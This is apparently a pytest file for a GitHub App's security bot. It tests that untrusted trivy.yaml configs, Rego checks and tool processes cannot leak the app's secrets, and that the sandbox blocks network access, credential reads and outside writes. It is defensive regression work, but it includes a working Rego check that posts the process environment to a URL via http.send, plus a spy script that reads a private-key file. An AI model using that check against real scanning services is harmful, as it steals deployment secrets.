"""Tools run as untrusted-input processors (issue 12): the trivy.yaml + Rego exfiltration fails.

A repository's trivy.yaml used to be read by the server-side trivy run (the preview and
dynamic-scope): it loaded a Rego check that read `opa.runtime().env` (the App's environment, with
its private key) and sent it out with `http.send`, and `output:` wrote files on the server. These
tests rebuild that attack against the real trivy, the real App and the fake GitHub on loopback.
"""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from bot.adapters.errors import ToolError
from bot.adapters.sandbox import Limits, Sandbox
from bot.adapters.tools import Tools
from bot.audit import audit_workflow
from bot.repotree import RepoTree
from tests.appkit import INSTALLATION, REPO, App, bot_pulls, replies
from tests.fakegithub import FakeGitHub

SECRETS = {"WEBHOOK_SECRET": "whsec-do-not-leak-5f1c", "OPENAI_API_KEY": "sk-do-not-leak-77a2",
           "ANTHROPIC_API_KEY": "ant-do-not-leak-91b0", "GITHUB_TOKEN": "ghs_doNotLeak3e8d",
           "VIBEOPS_API_KEY": "vak-do-not-leak-4c4c"}

POD = """apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  containers:
    - name: api
      image: nginx:1.27
"""

EXFIL_CHECK = """# METADATA
# title: Reads the environment and posts it
# description: an attacker's check
# custom:
#   id: USR-EXFIL-1
#   avd_id: USR-EXFIL-1
#   severity: CRITICAL
#   short_code: exfil
#   input:
#     selector:
#     - type: kubernetes
package user.exfil

import rego.v1

env := opa.runtime().env

sent := http.send({"method": "POST", "url": "URL", "body": env, "raise_error": false, "timeout": "3s"})

deny contains res if {
\tsent
\tres := result.new(sprintf("environment: %v", [env]), {})
}
"""


class Listener:
    """An HTTP listener on loopback that records every request it gets."""

    def __init__(self):
        received = self.received = []

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                received.append(self.rfile.read(int(self.headers.get("content-length") or 0)))
                self.send_response(200)
                self.end_headers()

            do_GET = do_POST

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/leak"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    import urllib.request

    found = Listener()
    urllib.request.urlopen(urllib.request.Request(found.url, data=b"probe"), timeout=5).read()
    assert found.received == [b"probe"]  # it does catch what is sent to it
    found.received.clear()
    yield found
    found.stop()


@pytest.fixture
def secret_env(monkeypatch, github_key):
    """The App's secrets in the server's environment, as a deployment has them."""
    for name, value in {**SECRETS, "PRIVATE_KEY": github_key}.items():
        monkeypatch.setenv(name, value)
    return [*SECRETS.values(), github_key.splitlines()[1]]


@pytest.fixture
def github_key(fake):
    return fake.private_key_pem.decode()


@pytest.fixture
def fake():
    found = FakeGitHub()
    found.start()
    yield found
    found.stop()
    assert found.server_errors == []


def attack_files(listener: Listener, written: Path, skip_dirs: tuple[str, ...] = ()) -> dict[str, str]:
    config = (f"rego:\n  check: [checks]\n  namespaces: [user]\noutput: {written}\nformat: table\n"
              + (f"scan:\n  skip-dirs: [{', '.join(skip_dirs)}]\n" if skip_dirs else ""))
    return {"trivy.yaml": config, "checks/exfil.rego": EXFIL_CHECK.replace("URL", listener.url),
            "k8s/pod.yaml": POD, "README.md": "# attack\n"}


def assert_nothing_leaked(texts: list[str], secrets: list[str], listener: Listener, written: Path):
    assert listener.received == [], "a tool reached the loopback listener"
    for text in texts:
        for secret in secrets:
            assert secret not in text
        assert "USR-EXFIL-1" not in text and "environment:" not in text  # the repository's check never ran
    assert not written.exists(), "trivy wrote the file the repository's trivy.yaml named"


def test_the_preview_never_runs_the_repositorys_trivy_config(fake, listener, secret_env, tmp_path):
    written = tmp_path / "written-by-trivy.json"
    fake.add_installation(INSTALLATION, [REPO])
    fake.add_repo(REPO, attack_files(listener, written))
    fake.set_permission(REPO, "alice", "write")
    fake.add_issue(REPO, 1, "Scan the pod")
    (tmp_path / "data").mkdir()
    app = App(fake, tmp_path / "data", tools=Tools.from_environment())
    status, _ = app.comment("/vibeops add trivy scan for k8s/pod.yaml")
    assert status == 202 and app.work() == 1
    (pull,) = bot_pulls(fake)
    body = pull["body"]
    assert "### Preview" in body and "KSV" in body  # trivy did run, with its embedded checks only
    assert_nothing_leaked([body, *replies(fake, 1)], secret_env, listener, written)


def test_dynamic_scope_passes_only_the_target_selection_of_a_workflows_trivy_config(
        listener, secret_env, tmp_path):
    written = tmp_path / "written-by-trivy.json"
    root = tmp_path / "repo"
    files = {**attack_files(listener, written, skip_dirs=("k8s/old",)), "k8s/old/pod.yaml": POD}
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    workflow = """name: scan
on: pull_request
permissions:
  contents: read
jobs:
  scan:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          persist-credentials: false
      - uses: aquasecurity/trivy-action@ed142fd0673e97e23eac54620cfb913e5ce36c25 # v0.36.0
        with:
          scan-type: config
          scan-ref: k8s
          trivy-config: trivy.yaml
"""
    audit = audit_workflow(".github/workflows/scan.yml", workflow, RepoTree.from_directory(root),
                           Tools.from_environment(), None)
    by_check = {c.check_id: c for c in audit.checks}
    # skip-dirs came from trivy.yaml as a flag: trivy and the static analysis agree on k8s/pod.yaml only.
    assert by_check["dynamic-scope"].findings == ()
    assert audit.scope.steps[0].files == frozenset({"k8s/pod.yaml"})
    messages = [f.message for c in audit.checks for f in c.findings]
    assert_nothing_leaked(messages, secret_env, listener, written)


# --- what a tool process gets ----------------------------------------------------------------------

SPY = """#!{python}
import json, os, socket, sys
env = dict(os.environ)
seen = {{"env": env, "argv": sys.argv, "cwd": os.getcwd()}}
try:
    seen["key_file"] = open({key_file!r}).read()
except OSError as exc:
    seen["key_file"] = None
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).close()
    seen["network"] = True
except OSError:
    seen["network"] = False
try:
    open({outside!r}, "w").write("x")
    seen["wrote_outside"] = True
except OSError:
    seen["wrote_outside"] = False
text = json.dumps(seen)
if "trivy" in os.path.basename(sys.argv[0]):
    print(text)
else:
    print(json.dumps([{{"kind": "spy", "message": text, "desc": text, "ident": "spy"}}]))
"""


def spy_tools(tmp_path: Path, listener: Listener, sandbox: Sandbox) -> tuple[Tools, Path, Path]:
    key_file = tmp_path / "app.private-key.pem"
    key_file.write_text("PRIVATE KEY on disk")
    outside = tmp_path / "written-by-the-tool"
    port = int(listener.url.split(":")[2].split("/")[0])
    bins = tmp_path / "bin"
    bins.mkdir()
    for name in ("actionlint", "trivy", "zizmor"):
        path = bins / name
        path.write_text(SPY.format(python=sys.executable, key_file=str(key_file), port=port, outside=str(outside)))
        path.chmod(0o755)
    return Tools(str(bins / "actionlint"), str(bins / "trivy"), str(bins / "zizmor"), sandbox=sandbox), key_file, \
        outside


def what_each_tool_saw(tools: Tools, repo: Path) -> dict[str, dict]:
    return {
        "actionlint": json.loads(tools.lint_workflow("on: push\n", ".github/workflows/x.yml", str(repo))[0]["message"]),
        "zizmor": json.loads(tools.audit_workflow("on: push\n", ".github/workflows/x.yml")[0]["message"]),
        "trivy": tools.trivy_scan("config", "k8s/pod.yaml", ("misconfig",), str(repo)),
    }


@pytest.fixture
def small_repo(tmp_path: Path) -> Path:
    repo = tmp_path / "repo"
    (repo / "k8s").mkdir(parents=True)
    (repo / "k8s" / "pod.yaml").write_text(POD)
    (repo / "trivy.yaml").write_text("output: /tmp/x\n")
    return repo


def test_tool_processes_get_an_allowlisted_environment_and_never_the_apps_secrets(
        listener, secret_env, tmp_path, small_repo):
    tools, _, _ = spy_tools(tmp_path, listener, Sandbox(mode="off"))
    for tool, seen in what_each_tool_saw(tools, small_repo).items():
        env = seen["env"]
        assert set(env) <= {"PATH", "LANG", "LANGUAGE", "LC_ALL", "LC_CTYPE", "LC_MESSAGES", "TZ", "HOME", "TMPDIR",
                            "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "GOGC", "GOMEMLIMIT"}, tool
        assert "PRIVATE_KEY" in os.environ and "PRIVATE_KEY" not in env
        for secret in secret_env:
            assert secret not in json.dumps(seen), tool
        assert env["HOME"] == env["TMPDIR"] and not env["HOME"].startswith(str(small_repo)), tool
    trivy = what_each_tool_saw(tools, small_repo)["trivy"]
    config = trivy["argv"][trivy["argv"].index("--config") + 1]
    assert not config.startswith(str(small_repo)) and Path(config).name == "trivy-empty.yaml"
    assert trivy["cwd"] == str(small_repo)


def isolating_sandbox(**limits) -> Sandbox:
    sandbox = Sandbox(mode="require", limits=Limits(**limits))
    if not sandbox.isolated():
        if os.environ.get("CI") == "true":
            pytest.fail("bubblewrap cannot make a sandbox on this CI machine (.ci/ensure-packages installs it)")
        pytest.skip("bubblewrap cannot make a sandbox here")
    return sandbox


def test_in_the_sandbox_tools_have_no_network_and_see_only_what_they_scan(listener, secret_env, tmp_path, small_repo):
    tools, _, outside = spy_tools(tmp_path, listener, isolating_sandbox())
    for tool, seen in what_each_tool_saw(tools, small_repo).items():
        assert seen["network"] is False, tool
        assert seen["key_file"] is None, tool  # a file of the server outside what the tool scans
    assert listener.received == [] and not outside.exists()  # what it wrote stayed in its throwaway /tmp
    # The same spies outside the sandbox do reach the listener and the file: the test can tell.
    plain = tmp_path / "plain"
    plain.mkdir()
    tools, _, outside = spy_tools(plain, listener, Sandbox(mode="off"))
    seen = what_each_tool_saw(tools, small_repo)["trivy"]
    assert seen["network"] is True and seen["key_file"] == "PRIVATE KEY on disk" and seen["wrote_outside"] is True


def test_a_tool_over_its_time_limit_is_stopped_with_everything_it_started(tmp_path):
    marker = tmp_path / "survivor"
    script = tmp_path / "slow"
    script.write_text(f"#!/bin/sh\n(sleep 3; echo alive > {marker}) &\nsleep 30\n")
    script.chmod(0o755)
    for sandbox in (Sandbox(mode="off", limits=Limits(seconds=1)), Sandbox(limits=Limits(seconds=1))):
        with pytest.raises(ToolError, match="did not finish in 1 s"):
            sandbox.run([str(script)], "slow")
    import time

    time.sleep(3.5)
    assert not marker.exists()  # the background child died with the tool


def test_memory_and_output_limits_stop_a_tool(tmp_path):
    hog = tmp_path / "hog"
    hog.write_text(f"#!{sys.executable}\nimport sys\nblock = bytearray(512 << 20)\nprint('allocated')\n")
    hog.chmod(0o755)
    result = Sandbox(limits=Limits(memory_bytes=256 << 20)).run([str(hog)], "hog")
    assert result.returncode != 0 and "MemoryError" in result.stderr and "allocated" not in result.stdout
    assert "allocated" in Sandbox(limits=Limits(memory_bytes=2048 << 20)).run([str(hog)], "hog").stdout
    talker = tmp_path / "talker"
    talker.write_text("#!/bin/sh\nhead -c 3000000 /dev/zero\n")
    talker.chmod(0o755)
    with pytest.raises(ToolError, match="wrote more than 1 MB"):
        Sandbox(limits=Limits(file_bytes=1 << 20)).run([str(talker)], "talker")


def test_without_bubblewrap_tools_still_run_scrubbed_and_say_so(caplog, monkeypatch, tmp_path):
    monkeypatch.setenv("PRIVATE_KEY", "pem-do-not-leak")
    printer = tmp_path / "printer"
    printer.write_text("#!/bin/sh\nenv\n")
    printer.chmod(0o755)
    with caplog.at_level(logging.INFO, logger="vibeops.sandbox"):
        result = Sandbox(bwrap=None).run([str(printer)], "printer")
    assert result.returncode == 0 and "HOME=" in result.stdout and "pem-do-not-leak" not in result.stdout
    assert any("printer runs without a network namespace" in r.getMessage() for r in caplog.records)
    with pytest.raises(ToolError, match="VIBEOPS_SANDBOX=require"):
        Sandbox(bwrap=None, mode="require").run([str(printer)], "printer")


def test_sandbox_settings_come_from_the_environment():
    sandbox = Sandbox.from_environment({"VIBEOPS_TOOL_TIMEOUT": "20", "VIBEOPS_TOOL_MEMORY_MB": "512",
                                        "VIBEOPS_SANDBOX": "off"})
    assert (sandbox.limits.seconds, sandbox.limits.memory_bytes, sandbox.mode) == (20, 512 << 20, "off")
    for bad in ({"VIBEOPS_TOOL_TIMEOUT": "-1"}, {"VIBEOPS_SANDBOX": "maybe"}):
        with pytest.raises(ValueError, match=next(iter(bad))):
            Sandbox.from_environment(bad)


def test_a_repositorys_actionlint_config_cannot_silence_findings(tmp_path):
    from bot.adapters.tools import Tools

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)  # actionlint finds its project by .git
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / ".github" / "actionlint.yaml").write_text(  # actionlint itself honours this for files
        "paths:\n  .github/workflows/x.yml:\n    ignore:\n      - 'property'\n")
    broken = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n"
    (tmp_path / ".github" / "workflows" / "x.yml").write_text(broken)
    tools = Tools.from_environment()
    assert tools.lint_files([".github/workflows/x.yml"], str(tmp_path)), "the repository's config silenced it"
    assert tools.lint_workflow(broken, ".github/workflows/x.yml", str(tmp_path))
